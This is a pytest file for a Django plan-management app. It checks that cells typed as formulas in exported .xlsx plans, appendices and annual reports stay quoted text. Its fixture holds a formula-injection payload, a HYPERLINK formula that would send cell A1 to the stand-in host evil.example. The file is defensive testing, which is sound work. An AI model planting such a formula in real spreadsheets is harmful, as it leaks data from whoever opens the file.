"""A task, a lead unit or a note typed as "=…" comes out of the plan's .xlsx, its appendices and the annual
report as text, not as a formula that runs when the officer opens the file; and reads back the same."""

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from motcua.papers.transformation import annual
from motcua.papers.transformation.render import plan_paper
from motcua.transformation.services import budget, plans
from motcua.transformation.xlsx.importer import import_plan
from motcua.transformation.xlsx.writer import export_plan

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?d="&A1;"Xem chi tiết")'


@pytest.fixture
def evil_plan(dx):
    plan = plans.create_plan(dx.dp_admin, agency=dx.dp, year=2024)
    section = plans.add_section(dx.dp_admin, plan, title="Nhóm phát triển chính quyền số")
    task = plans.add_task(dx.dp_admin, plan, section=section, content=EVIL, lead_text="@Văn phòng HĐND và UBND",
                          note="+84 912 345 678", deadline=dt.date(2024, 12, 31), lead_agencies=[dx.dp])
    budget.add_budget_line(dx.dp_admin, task, planned="2.000", sources=["CTX"])
    return plan


def _cells(data: bytes):
    return [c for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row]


def _assert_text(data: bytes, *texts):
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for text in texts:
        found = [c for c in cells if c.value == text]
        assert found and all(c.data_type == "s" and c.quotePrefix for c in found), text
    return cells


def test_plan_export_keeps_typed_formulas_as_text_and_the_budget_as_a_number(dx, evil_plan):
    data = export_plan(evil_plan)
    cells = _assert_text(data, EVIL, "@Văn phòng HĐND và UBND", "+84 912 345 678")
    assert 2000 in [c.value for c in cells if c.data_type == "n"]
    again = import_plan(dx.dp_admin, data, agency=dx.dp, year=2024, replace=True).plan
    assert again.tasks.get().content == EVIL


@pytest.mark.parametrize("kind", ["plan_budget", "budget_list"])
def test_plan_appendices_keep_typed_formulas_as_text(dx, evil_plan, kind):
    _assert_text(plan_paper(kind, evil_plan, "xlsx"), EVIL)


def test_annual_report_keeps_a_typed_narrative_as_text(dx, evil_plan):
    from motcua.transformation.services import annual as annual_services

    annual_services.save_narrative(dx.dp_admin, dx.dp, 2024, "proposals", "=1+1 đề xuất")
    _assert_text(annual.build_xlsx(dx.dp, 2024), "=1+1 đề xuất")
